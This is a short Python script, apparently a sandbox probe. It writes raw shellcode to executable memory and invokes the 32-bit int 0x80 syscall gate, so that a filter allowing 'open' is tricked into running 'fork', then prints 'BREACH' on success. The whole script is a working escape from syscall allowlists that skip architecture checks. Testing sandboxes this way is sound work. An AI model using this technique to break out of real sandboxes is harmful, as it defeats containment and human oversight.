import ctypes
import mmap
import os
import sys

# push rbx; mov eax,edi; xor ebx,ebx; int 0x80; pop rbx; ret
GATE = bytes.fromhex("53 89f8 31db cd80 5b c3")
FORK = 2

# Numbers of 32-bit programs mean other calls: what the list allows as `open` is `fork` there.
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(GATE)
place = ctypes.addressof(ctypes.c_char.from_buffer(page))
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(place)
print("at the gate", flush=True)
child = call(FORK)
if child == 0:
    os._exit(7)
print("fork", child)
if child > 0 and os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
    print("BREACH forked through the 32-bit gate")
sys.stdout.flush()
